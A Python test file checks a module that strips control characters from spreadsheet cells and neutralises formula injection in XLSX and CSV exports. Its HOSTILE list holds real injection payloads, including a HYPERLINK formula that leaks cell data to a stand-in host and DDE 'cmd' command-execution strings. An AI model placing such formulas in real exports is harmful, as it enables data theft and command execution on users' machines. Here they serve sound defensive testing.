"""Cells written for spreadsheets: control characters out, user text never a formula (F7, F12)."""

from __future__ import annotations

import csv
import dataclasses
import io

import pytest
from openpyxl import Workbook, load_workbook

from portevoix.core.cells import (
    SheetFormula,
    append_row,
    clean_data,
    clean_text,
    csv_text,
    looks_like_formula,
    neutralised,
    set_cell,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A3&B3,"Jean-Marc Bertin")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_a_spreadsheet_would_run_is_neutralised(text: str) -> None:
    assert looks_like_formula(text)
    assert neutralised(text) == "'" + text


@pytest.mark.parametrize("text", ["-12", "-3,5", "+4.25", "-1e3", "Jean-Marc", "a=b", "", "€ -5"])
def test_numbers_and_ordinary_text_stay_as_they_are(text: str) -> None:
    assert neutralised(text) == text


def test_control_characters_go_but_tabs_and_line_breaks_stay() -> None:
    assert clean_text("Nathalie\x01Roux\x00\x0b\x1f\x7f\ufffe") == "NathalieRoux\x7f"
    assert clean_text("a\tb\nc\r\nd") == "a\tb\nc\r\nd"


def test_clean_data_walks_dicts_lists_tuples_and_dataclasses() -> None:
    @dataclasses.dataclass(frozen=True)
    class Item:
        name: str
        values: tuple[str, ...]

    data = {"a\x01": [Item("x\x02", ("y\x03", 1))], "n": 2.5}
    assert clean_data(data) == {"a": [Item("x", ("y", 1))], "n": 2.5}


def test_workbook_cells_keep_user_text_as_text_and_product_formulas_as_formulas() -> None:
    book = Workbook()
    sheet = book.active
    append_row(sheet, [*HOSTILE, -12.5, "-12", "Nathalie\x01Roux"])
    append_row(sheet, [SheetFormula("=SUM(A1:B1)"), None, 3])
    set_cell(sheet, 3, 1, "=1+1")
    set_cell(sheet, 3, 2, SheetFormula("=1+1"))
    buffer = io.BytesIO()
    book.save(buffer)
    read = load_workbook(io.BytesIO(buffer.getvalue())).active
    first = list(read[1])
    assert [cell.value for cell in first[: len(HOSTILE)]] == HOSTILE  # shown exactly as typed
    assert all(cell.data_type == "s" for cell in first[: len(HOSTILE)])
    assert all(cell.quotePrefix for cell in first[: len(HOSTILE)])
    assert first[len(HOSTILE)].value == -12.5
    assert first[len(HOSTILE)].data_type == "n"
    assert first[-1].value == "NathalieRoux"
    assert read["A2"].data_type == "f"
    assert read["A2"].value == "=SUM(A1:B1)"
    assert read["A3"].data_type == "s"
    assert read["B3"].data_type == "f"


def test_a_formula_must_say_it_is_one() -> None:
    with pytest.raises(ValueError, match="starts with"):
        SheetFormula("SUM(A1)")
    with pytest.raises(TypeError, match="not formulas"):
        csv_text([[SheetFormula("=1")]])


def test_csv_cells_are_neutralised_and_numbers_kept() -> None:
    text = csv_text([["name", "score"], [HOSTILE[0], -12.5], ["Nathalie\x01Roux", None]])
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:]), delimiter=";"))
    assert rows == [["name", "score"], ["'" + HOSTILE[0], "-12.5"], ["NathalieRoux", ""]]


def test_every_module_that_writes_a_spreadsheet_is_one_the_acceptance_test_opens() -> None:
    """A new XLSX or CSV writer must go through core.cells and be added to the parametrised
    export test (``tests/security/test_hostile_text_in_exports.py``)."""
    from pathlib import Path

    import portevoix

    root = Path(portevoix.__file__).parent
    writers = {
        path.relative_to(root).as_posix()
        for path in root.rglob("*.py")
        if any(
            call in path.read_text(encoding="utf-8")
            for call in ("Workbook(", "csv.writer(", "csv.DictWriter(")
        )
    }
    assert writers == {
        "core/cells.py",  # the one CSV writer
        "assessments/exports.py",  # results.xlsx
        "roadmap/exports.py",  # roadmap.xlsx
        "business_case/xlsx.py",  # business-case.xlsx
        "reports/render/sheets.py",  # board, progress and leader .xlsx
        "evidence/demo.py",  # the demo's own LinkedIn files (input, not an export)
    }
    for module in writers - {"core/cells.py", "evidence/demo.py"}:
        assert "from portevoix.core.cells import" in (root / module).read_text(encoding="utf-8"), module
